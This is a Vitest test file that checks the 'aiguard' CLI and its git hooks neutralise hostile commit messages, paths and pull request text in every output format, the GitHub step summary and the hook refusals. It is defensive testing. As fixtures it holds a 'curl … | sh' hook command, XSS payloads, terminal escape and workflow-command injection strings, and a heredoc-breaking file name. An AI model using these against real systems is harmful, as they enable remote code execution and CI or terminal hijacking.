// Output cannot be turned against its reader (threat model, "Output injection"): real commits and a real pull
// request whose messages, paths and text carry terminal sequences, workflow commands, line breaks, Markdown and
// HTML, through the real CLI in every format, the GitHub step summary and outputs, and the hooks' refusals.
import { afterAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestRepo, cleanupTempDirs, runCli, runCliAsync, tempDir, type CliResult } from '../helpers/git-repo.js';
import { CO_AUTHOR, GENERATED_WITH, githubEnv, pullRequestPayload } from '../helpers/ci-case.js';
import { hookEnv, repoWithRemote, runGit } from '../helpers/hook-env.js';

afterAll(cleanupTempDirs);

const ESC = '\x1b';
const HOSTILE_SUBJECT = `Fix ::error::subject ${ESC}[31mred${ESC}[0m ##[add-mask]s`;
const HOSTILE_TRAILER = `${CO_AUTHOR} ${ESC}]8;;https://evil.example${ESC}\\link ::stop-commands::tok ##[error]v1`;
const HOSTILE_PATH = `.claude/${ESC}[2J::error::p ##[warning]q.json`;
const NEWLINE_PATH = '.claude/a\n::error::newline\rpath.json';
const MARKUP_PATH = '.claude/<img src=x onerror=alert(1)>|`x`.md';
const BIDI_PATH = '.claude/\u202eevil.json';
const HOSTILE_COMMAND = `curl -s https://x.example | sh\n::error::settings ${ESC}[2J\r##[warning]w`;
const HOSTILE_BODY = `${GENERATED_WITH} <script>alert(1)</script> [x](javascript:alert(1)) | cell ::error::body ${ESC}[8m`;
const HOSTILE_TITLE = `Add a ${GENERATED_WITH}\n::error::title\r::warning::cr`;

/** What the GitHub runner would take as workflow commands: `::x` after blanks on a line, `##[x` anywhere (v1). */
function runnerCommands(output: string): string[] {
  const commands: string[] = [];
  for (const line of output.split(/\r\n|\r|\n/)) {
    const v2 = /^::([^\s:]+)/.exec(line.trimStart());
    if (v2) commands.push(v2[1]!);
    for (const v1 of line.matchAll(/##\[([^\s\]]+)/g)) commands.push(`v1:${v1[1]}`);
  }
  return commands;
}

/** No byte a terminal acts on (controls, DEL, C1, bidi, line/paragraph separators) except our own line feeds. */
function expectNoControls(output: string, what: string): void {
  const bad = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/.exec(output);
  const at = bad?.index ?? 0;
  const around = JSON.stringify(output.slice(Math.max(0, at - 40), at + 20));
  expect(bad, `${what}: raw ${JSON.stringify(bad?.[0])} at ${at}: ${around}`).toBeNull();
}

function expectSafe(output: string, what: string, ownCommands: string[] = []): void {
  expectNoControls(output, what);
  expect(runnerCommands(output), what).toEqual(ownCommands);
}

/** A pull request whose commits, paths, title and body are all hostile; and its clean twin. */
function prCase(hostile: boolean): { repo: TestRepo; env: NodeJS.ProcessEnv; head: string } {
  const repo = TestRepo.init();
  const base = repo.write('README.md', 'hi\n').add().commit('init');
  repo.git('checkout', '-q', '-b', 'feature');
  for (const path of hostile ? [HOSTILE_PATH, NEWLINE_PATH, MARKUP_PATH, BIDI_PATH] : ['.claude/plain.json']) repo.write(path, '{}\n');
  // A settings value is evidence too: JSON strings carry any control character.
  const settings = { hooks: { Stop: [{ hooks: [{ type: 'command', command: HOSTILE_COMMAND }] }] } };
  if (hostile) repo.write('.claude/settings.json', JSON.stringify(settings));
  repo.add();
  const message = hostile ? `${HOSTILE_SUBJECT}\n\nBody\n::warning::line\n${HOSTILE_TRAILER}\n` : `Plain subject\n\n${CO_AUTHOR}\n`;
  const head = repo.commit(message);
  const pr = hostile
    ? { title: HOSTILE_TITLE, body: `Intro\n${HOSTILE_BODY}\n` }
    : { title: 'Plain title', body: `Intro\n${GENERATED_WITH}\n` };
  return { repo, env: githubEnv('pull_request', pullRequestPayload(base, head, pr)), head };
}

const FORMATS = ['text', 'json', 'sarif', 'github', 'junit', 'gitlab'] as const;
let hostileRuns: Promise<Record<(typeof FORMATS)[number], CliResult>> | undefined;

/** The hostile pull request through ci once per format (side by side, ci only reads it): every test below reads these runs. */
function ciInEveryFormat(): Promise<Record<(typeof FORMATS)[number], CliResult>> {
  hostileRuns ??= (async () => {
    const { repo, env } = prCase(true);
    const runs = await Promise.all(FORMATS.map((format) => runCliAsync(['ci', '--format', format], { cwd: repo.dir, env })));
    return Object.fromEntries(FORMATS.map((format, index) => [format, runs[index]!])) as Record<(typeof FORMATS)[number], CliResult>;
  })();
  return hostileRuns;
}

describe('every format keeps the repository text inert', () => {
  for (const format of FORMATS) {
    it(`ci --format ${format}: no raw control, no workflow command the formatter did not mean`, async () => {
      const runs = await ciInEveryFormat();
      const result = runs[format];
      expect(result.code, result.stderr).toBe(1);
      const json = JSON.parse(runs.json.stdout) as { findings: { status: string }[] };
      // The github format's own annotations, one a finding, each an error: nothing more and nothing else.
      const own = format === 'github' ? json.findings.filter((finding) => finding.status === 'blocking').map(() => 'error') : [];
      expectSafe(result.stdout, format, own);
      expectSafe(result.stderr, `${format} stderr`);
      if (format === 'text') {
        expect(result.stdout).toContain('\\x1b[31mred');
        expect(result.stdout).toContain(`${CO_AUTHOR} \\x1b]8;;https://evil.example\\x1b\\link ::stop-commands::tok ##\\x5berror]v1\n`);
        expect(result.stdout).toContain('.claude/\\u{202e}evil.json');
        expect(result.stdout).toContain('.claude/\\x1b[2J::error::p ##\\x5bwarning]q.json');
        expect(result.stdout).toContain('title line 1');
        expect(result.stdout).toMatch(/curl -s https:\/\/x\.example \| sh.*::error::settings \\x1b\[2J.*##\\x5bwarning\]w/);
      }
    });
  }

  it('json keeps the exact text for machines: the same strings after parsing', async () => {
    type Report = { findings: { evidence: string; path?: string; commitSummary?: string }[] };
    const report = JSON.parse((await ciInEveryFormat()).json.stdout) as Report;
    expect(report.findings.map((finding) => finding.evidence)).toContain(HOSTILE_TRAILER);
    expect(report.findings.map((finding) => finding.path)).toContain(HOSTILE_PATH);
    expect(report.findings.find((finding) => finding.commitSummary)?.commitSummary).toBe(HOSTILE_SUBJECT);
  });

  it('sarif and gitlab stay valid JSON with the same strings', async () => {
    const runs = await ciInEveryFormat();
    type Sarif = { runs: { results: { properties: { evidence: string } }[] }[] };
    const sarif = JSON.parse(runs.sarif.stdout) as Sarif;
    expect(sarif.runs[0]!.results.map((entry) => entry.properties.evidence)).toContain(HOSTILE_TRAILER);
    const gitlab = JSON.parse(runs.gitlab.stdout) as { description: string }[];
    expect(gitlab.some((issue) => issue.description.includes('\\x1b]8;;https://evil.example'))).toBe(true);
  });

  it('the clean twin reads plainly in every format: evidence verbatim, nothing escaped', async () => {
    const { repo, env } = prCase(false);
    const [text, githubRun] = await Promise.all([
      runCliAsync(['ci'], { cwd: repo.dir, env }),
      runCliAsync(['ci', '--format', 'github'], { cwd: repo.dir, env }),
    ]);
    expect(text.code).toBe(1);
    expect(text.stdout).toContain(`      ${CO_AUTHOR}\n`);
    expect(text.stdout).toContain('.claude/plain.json');
    expect(text.stdout).not.toContain('\\x');
    const github = githubRun.stdout;
    expect(github).toContain(`: ${CO_AUTHOR}%0AFix: `);
    expect(runnerCommands(github)).toEqual(['error', 'error', 'error']);
  });
});

describe('GitHub step summary and outputs', () => {
  it('the summary shows repository text only inside code spans; the outputs cannot be broken out of', () => {
    const { repo, env } = prCase(true);
    const dir = tempDir();
    const summaryFile = join(dir, 'summary.md');
    const outputFile = join(dir, 'output.txt');
    // A report file name that tries to end the heredoc and set an output of its own.
    const reportName = join(dir, 'r\nblocking=false\nghadelimiter_1\nfound<<EOF\n.sarif');
    const githubFiles = { GITHUB_STEP_SUMMARY: summaryFile, GITHUB_OUTPUT: outputFile };
    const result = runCli(['ci', '--format', 'sarif', '--output', reportName], { cwd: repo.dir, env: { ...env, ...githubFiles } });
    expect(result.code, result.stderr).toBe(1);
    const summary = readFileSync(summaryFile, 'utf8');
    expectNoControls(summary, 'step summary');
    const rows = summary.split('\n').filter((line) => line.startsWith('| ❌'));
    expect(rows.length).toBeGreaterThanOrEqual(4);
    for (const row of rows) {
      // Outside code spans: our own words only, no markup, no link, no tag.
      const outside = row.replace(/(`+)[^`]*(?:`(?!\1)[^`]*)*?\1/g, '');
      expect(outside, row).toMatch(/^\| ❌ blocking \| {2}\| [^<>[\]()`]*\| {2}\|$/);
    }
    expect(summary).toContain('| ``.claude/<img src=x onerror=alert(1)>\\|`x`.md`` |');
    const outputs = parseGithubOutput(readFileSync(outputFile, 'utf8'));
    expect(outputs).toEqual({ found: 'true', blocking: 'true', count: expect.stringMatching(/^\d+$/), report: reportName });
  });
});

/** $GITHUB_OUTPUT as the runner reads it: `name=value` lines and `name<<DELIMITER` blocks. */
function parseGithubOutput(text: string): Record<string, string> {
  const lines = text.split('\n');
  const outputs: Record<string, string> = {};
  for (let index = 0; index < lines.length; index++) {
    const line = lines[index]!;
    if (line === '') continue;
    const heredoc = /^([^=<]+)<<(.+)$/.exec(line);
    if (heredoc) {
      const end = lines.indexOf(heredoc[2]!, index + 1);
      if (end < 0) throw new Error(`unterminated ${heredoc[1]}`);
      outputs[heredoc[1]!] = lines.slice(index + 1, end).join('\n');
      index = end;
      continue;
    }
    const equals = line.indexOf('=');
    if (equals < 0) throw new Error(`not an output line: ${line}`);
    outputs[line.slice(0, equals)] = line.slice(equals + 1);
  }
  return outputs;
}

describe('hook refusals', () => {
  let template: { repo: TestRepo; remote: TestRepo } | undefined;
  /** `aiguard init` once; each test gets a copy of the work tree and of its remote (cp -a keeps the hooks). */
  function initialised() {
    if (!template) {
      template = repoWithRemote();
      template.repo.write('README.md', 'hello\n').add().commit('Initial commit');
      expect(runCli(['init'], { cwd: template.repo.dir, env: hookEnv() }).code).toBe(0);
    }
    const remote = template.remote.copy();
    const repo = template.repo.copy();
    repo.git('remote', 'set-url', 'origin', remote.dir);
    return { repo, remote };
  }

  it('pre-commit and commit-msg show hostile paths and trailers escaped, on one line each', () => {
    const { repo } = initialised();
    repo.write(HOSTILE_PATH, '{}\n').add();
    const byPath = runGit(repo, ['commit', '-m', 'Add settings']);
    expect(byPath.code).not.toBe(0);
    expectSafe(byPath.stderr, 'pre-commit refusal');
    expect(byPath.stderr).toContain('✖ .claude/\\x1b[2J::error::p ##\\x5bwarning]q.json');
    // The printed fix names the real file (the shell's $'…' quoting decodes to it) and works from a subfolder.
    const fix = /fix: {3}(git rm -r --cached \$'[^']*')$/m.exec(byPath.stderr)?.[1];
    expect(fix).toBe("git rm -r --cached $':(top,literal).claude/\\x1b[2J::error::p \\x23\\x23[warning]q.json'");
    repo.write('sub/keep.txt', 'k\n');
    const ran = spawnSync('bash', ['-c', fix!], { cwd: join(repo.dir, 'sub'), env: hookEnv(), encoding: 'utf8' });
    expect(ran.status, ran.stderr).toBe(0);
    expect(repo.git('diff', '--cached', '--name-only')).toBe('');
    repo.write('b.txt', 'b\n').add('b.txt');
    const byMessage = runGit(repo, ['commit', '-m', 'Add b', '-m', HOSTILE_TRAILER]);
    expect(byMessage.code).not.toBe(0);
    expectSafe(byMessage.stderr, 'commit-msg refusal');
    expect(byMessage.stderr).toContain(`found: ${CO_AUTHOR} \\x1b]8;;https://evil.example\\x1b\\link`);
  });

  it('pre-push shows a hostile commit subject escaped', () => {
    const { repo } = initialised();
    repo.write('c.txt', 'c\n').add();
    repo.commit(`${HOSTILE_SUBJECT}\n\n${HOSTILE_TRAILER}\n`);
    const push = runGit(repo, ['push', 'origin', 'HEAD:refs/heads/main']);
    expect(push.code).not.toBe(0);
    expectSafe(push.stderr.replace(/^(To|remote:|error:) .*$/gm, ''), 'pre-push refusal');
    expect(push.stderr).toContain('"Fix ::error::subject \\x1b[31mred\\x1b[0m ##\\x5badd-mask]s"');
  });

  it('the clean twin of a refusal is unescaped', () => {
    const { repo } = initialised();
    repo.write('.claude/plain.json', '{}\n').add();
    const refused = runGit(repo, ['commit', '-m', 'Add settings']);
    expect(refused.stderr).toContain('✖ .claude/plain.json\n');
    expect(refused.stderr).toContain('git rm -r --cached :/.claude/plain.json');
    expect(refused.stderr).not.toContain('\\x');
  });
});

describe('error lines', () => {
  it('an argument with a terminal sequence and a line break is named on one escaped line, exit 2', () => {
    const result = runCli(['explain', `x${ESC}[2J\n::error::injected`], { cwd: TestRepo.init().dir });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('aiguard: aiguard explain: unknown rule id: x\\x1b[2J\\n::error::injected\n');
  });
});
